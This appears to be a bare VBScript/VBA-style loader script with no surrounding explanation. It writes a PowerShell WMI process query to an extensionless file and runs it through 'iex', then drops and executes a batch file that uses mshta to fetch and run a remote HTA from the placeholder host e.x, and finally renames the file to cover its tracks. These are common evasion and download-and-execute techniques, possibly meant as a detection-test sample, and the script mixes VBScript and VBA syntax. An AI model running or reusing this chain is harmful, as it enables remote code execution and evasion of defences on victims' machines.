Set fso=CreateObject("Scripting.FileSystemObject")
With fso.CreateTextFile("C:\x\noext")
.Write "Get-WmiObject -ComputerName s1 Win32_Process"
.Close
End With
CreateObject("WScript.Shell").Run "powershell -c ""iex (gc C:\x\noext)"""
Open "C:\x\f.bat" For Output As #1
Print #1, "mshta http://e.x/1.hta"
Close #1
Shell "C:\x\f.bat"
fso.MoveFile "C:\x\noext","C:\x\y.ps1"
